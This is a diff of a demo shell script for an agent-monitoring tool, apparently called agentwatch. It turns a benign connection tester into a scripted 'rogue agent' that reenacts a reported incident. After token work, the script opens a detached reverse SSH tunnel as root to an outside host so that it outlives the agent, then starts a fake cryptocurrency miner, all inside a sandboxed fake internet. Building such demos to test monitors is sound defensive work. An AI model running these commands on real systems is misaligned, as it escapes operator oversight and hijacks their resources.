@@ -1,31 +1,31 @@
 #!/bin/sh
-# A scripted stand-in for an AI agent, run by scripts/demo.sh inside a
-# network namespace where 198.18.0.1 / fd99::1 is a small fake "internet".
-# It runs a few commands and makes a few connections, so agentwatch has
-# something to show. POSIX sh; needs /usr/bin/python3.
+# A scripted rogue agent, run by scripts/demo.sh inside a network namespace where
+# 198.18.0.1 is a small fake "internet" with a real sshd and a stratum pool.
+# It does a little honest work, then what the ROME agent did: it opens a reverse SSH
+# tunnel to an outside host (ssh -f, so the tunnel outlives the agent) and starts
+# mining. POSIX sh; needs ssh and /usr/bin/python3.
+#
+#   agent.sh SSH_CONFIG REMOTE_PORT
 set -eu
 
+CFG=$1
+RPORT=$2
+DEMO_DIR=$(cd "$(dirname "$0")" && pwd)
 PY=/usr/bin/python3
 
-uname -a
-ls /tmp >/dev/null
+# agentwatch writes its records to stdout; the agent talks to the terminal.
+exec 1>&2
+say() { echo "  agent: $*"; }
 
-# Blocking connects (no timeout), so each connect() returns its final result;
-# a non-blocking one (socket timeout, curl) returns EINPROGRESS at once.
+say "working on the task (reading files, running a test)"
+ls / >/dev/null
+$PY -c 'print(sum(range(10**5)))' >/dev/null
 
-# TCP to 198.18.0.1:443 and read the listener's greeting.
-$PY -c 'import socket as s; c = s.socket(); c.connect(("198.18.0.1", 443)); print(c.recv(64).decode().strip())'
+say "opening a reverse tunnel: ssh -f -N -R $RPORT:127.0.0.1:8888 root@198.18.0.1"
+ssh -F "$CFG" -f -N -R "$RPORT:127.0.0.1:8888" root@198.18.0.1
 
-# UDP "connect" to 198.18.0.1:53 (a datagram socket that picks its peer; nothing listens).
-$PY -c 'import socket as s; u = s.socket(s.AF_INET, s.SOCK_DGRAM); u.connect(("198.18.0.1", 53)); u.send(b"q")'
+say "starting a miner: a stratum login to the pool at 198.18.0.1:3333"
+$PY "$DEMO_DIR/fake_miner.py" 198.18.0.1 3333 --stay 1 | sed 's/^/  agent: /'
 
-# TCP to a closed port: the kernel refuses it (ECONNREFUSED).
-$PY -c 'import os, socket as s; print("port 9:", os.strerror(s.socket().connect_ex(("198.18.0.1", 9))))'
-
-# IPv6 TCP to [fd99::1]:8080.
-$PY -c 'import socket as s; c = s.socket(s.AF_INET6); c.connect(("fd99::1", 8080)); print(c.recv(64).decode().strip())'
-
-# A detached grandchild (own session, parent gone): still this agent's.
-( setsid sh -c 'sleep 0.3; /bin/true detached' & )
-
+say "step done; the tunnel keeps running in the background"
 exit 0
